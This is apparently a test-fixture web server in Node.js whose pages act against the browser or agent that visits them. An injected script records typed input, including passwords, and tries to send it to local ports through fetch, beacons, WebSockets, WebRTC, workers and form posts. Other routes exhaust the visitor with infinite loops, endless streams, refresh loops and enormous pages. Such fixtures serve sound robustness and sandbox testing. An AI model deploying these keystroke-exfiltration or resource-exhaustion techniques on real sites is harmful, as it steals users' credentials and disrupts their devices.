// A small app whose pages do harm to whoever looks at them: what MOOD says, at the ports TCP and UDP where pages ask for others.
import { randomBytes } from 'node:crypto';
import { createServer } from 'node:http';

const { MOOD = '', TCP = '1', UDP = '1' } = process.env;
const people = { ines: process.env.INES ?? 'gull-29-feather', tomas: process.env.TOMAS ?? 'buoy-81-lantern' };
const sessions = new Map();

const html = (body, title = 'Hostile') =>
  `<!doctype html><html lang="en"><title>${title}</title><body>${body}</body></html>`;

/** What script asks for elsewhere, with what was typed. */
const ASK_ELSEWHERE = `
  const elsewhere = 'http://127.0.0.1:${TCP}/?' + (sessionStorage.typed ?? '');
  const quiet = (deed) => { try { Promise.resolve(deed()).catch(() => undefined); } catch { /* It may be shut. */ } };
  quiet(() => fetch(elsewhere, { mode: 'no-cors' }));
  quiet(() => { new Image().src = elsewhere; });
  quiet(() => navigator.sendBeacon(elsewhere, 'typed'));
  quiet(() => new WebSocket('ws://127.0.0.1:${TCP}/'));
  quiet(() => new EventSource(elsewhere));
  quiet(() => window.open(elsewhere));
  quiet(() => new WebTransport('https://127.0.0.1:${UDP}/'));
  quiet(() => new Worker(URL.createObjectURL(new Blob(['fetch("' + elsewhere + '", { mode: "no-cors" })']))));
  quiet(() => navigator.serviceWorker.register('/worker.js'));
  quiet(() => { const link = document.createElement('link'); link.rel = 'preconnect'; link.href = elsewhere; document.head.append(link); });
  quiet(() => { const frame = document.createElement('iframe'); frame.src = elsewhere; document.body.append(frame); });
  quiet(async () => {
    const servers = [{ urls: 'stun:127.0.0.1:${UDP}' }, { urls: ['turn:127.0.0.1:${UDP}', 'turn:127.0.0.1:${TCP}?transport=tcp'], username: 'typed', credential: 'typed' }];
    const peer = new RTCPeerConnection({ iceServers: servers });
    peer.createDataChannel('typed');
    await peer.setLocalDescription(await peer.createOffer());
    const foundation = peer.localDescription.sdp.match(/ice-pwd:(.*)/)[1];
    await peer.setRemoteDescription({ type: 'answer', sdp: peer.localDescription.sdp.replace('actpass', 'active') });
    await peer.addIceCandidate({ candidate: 'candidate:1 1 udp 2113937151 127.0.0.1 ${UDP} typ host', sdpMLineIndex: 0 });
    await peer.addIceCandidate({ candidate: 'candidate:2 1 tcp 1518280447 127.0.0.1 ${TCP} typ host tcptype passive', sdpMLineIndex: 0, usernameFragment: foundation });
  });
  quiet(() => { const form = document.createElement('form'); form.action = elsewhere; form.target = 'aside'; form.method = 'post'; document.body.append(form); form.submit(); });
`;
const WORKER = `addEventListener('install', () => fetch('http://127.0.0.1:${TCP}/worker', { mode: 'no-cors' }).catch(() => undefined));`;

const FIELD =
  {
    readonly: '<input type="password" name="password" readonly>',
    focus: '<input type="password" name="password" readonly onfocus="this.removeAttribute(\'readonly\')">',
  }[MOOD] ?? '<input type="password" name="password">';
const FORM = `<form method="post" action="/enter"><input name="email">${FIELD}<button>Enter</button></form>`;
/** The form is drawn by script, so that nobody can fill it in by requests. */
const DRAWN = `<main></main><script>
  document.querySelector('main').innerHTML = ${JSON.stringify(FORM)};
  addEventListener('input', (event) => { sessionStorage.typed = (sessionStorage.typed ?? '') + event.target.value; });
  ${MOOD === 'asks elsewhere' ? ASK_ELSEWHERE : ''}
</script>`;

let isAsked = false;
const server = createServer((request, response) => {
  // Whoever looks has begun.
  if (!isAsked) console.log('asked');
  isAsked = true;
  const { pathname } = new URL(request.url, 'http://app');
  const who = sessions.get(/(?:^|; )sid=([^;]+)/.exec(request.headers.cookie ?? '')?.[1]) ?? null;
  const send = (text, status = 200, type = 'text/html') =>
    response.writeHead(status, { 'content-type': type, 'cache-control': 'no-store' }).end(text);
  const go = (to, headers = {}) => response.writeHead(302, { location: to, ...headers }).end();
  if (pathname === '/enter' && request.method === 'POST') {
    let text = '';
    request.on('data', (part) => (text += part));
    return request.on('end', () => {
      const form = new URLSearchParams(text);
      const name = form.get('email');
      if (people[name] !== form.get('password')) return send(html(MOOD === 'plain' ? FORM : DRAWN), 401);
      const fresh = randomBytes(12).toString('hex');
      sessions.set(fresh, name);
      go('/desk', { 'set-cookie': `sid=${fresh}; Path=/; HttpOnly; SameSite=Lax` });
    });
  }
  switch (pathname) {
    case '/enter':
      return who === null ? send(html(MOOD === 'plain' ? FORM : DRAWN)) : go('/desk');
    case '/':
      return send(html('<a href="/enter">Enter</a>'));
    case '/worker.js':
      return send(WORKER, 200, 'text/javascript');
    case '/leave':
      sessions.delete(/(?:^|; )sid=([^;]+)/.exec(request.headers.cookie ?? '')?.[1]);
      return go('/', { 'set-cookie': 'sid=; Path=/; Max-Age=0' });
    case '/desk': {
      if (who === null) return go('/enter');
      const links = ['/desk', '/stream', '/never', '/closes', '/links', '/fields', '/deep', '/loop', '/late']
        .map((to) => `<a href="${to}">${to}</a> `)
        .join('');
      const script = MOOD === 'asks elsewhere' ? `<script>${ASK_ELSEWHERE}</script>` : '';
      return send(
        html(
          `<b class="who">${who}</b> ${links}<form method="post" action="/leave"><button>Log out</button></form>${script}`,
        ),
      );
    }
    case '/stream': {
      response.writeHead(200, { 'content-type': 'text/html' });
      const more = setInterval(() => response.write('<p>more</p>'.repeat(100)), 5);
      return response.on('close', () => clearInterval(more));
    }
    case '/never':
      return undefined;
    case '/closes':
      return request.socket.destroy();
    case '/loop':
      return send(html('<script>while (true);</script>'));
    case '/deep':
      return send(html('<div>'.repeat(100_000)));
    case '/again':
      return send(html('<meta http-equiv="refresh" content="0;url=/again">'));
    case '/garbled':
      return response
        .writeHead(200, { 'content-type': 'text/html', 'content-encoding': 'gzip' })
        .end('no gzip');
    case '/late':
      return send(html('<p>The last page.</p>'));
    case '/links':
      return send(
        html(
          Array.from({ length: 50_000 }, (_, at) => `<a href="/shelf-${at.toString(36)}x">${at}</a>`).join(
            '',
          ),
        ),
      );
    case '/fields':
      return send(html(`<form>${'<input name="a" value="b">'.repeat(100_000)}</form>`));
    default:
      return send(html('There is nothing here.'), 404);
  }
});
server.listen(Number(process.env.PORT), '127.0.0.1');
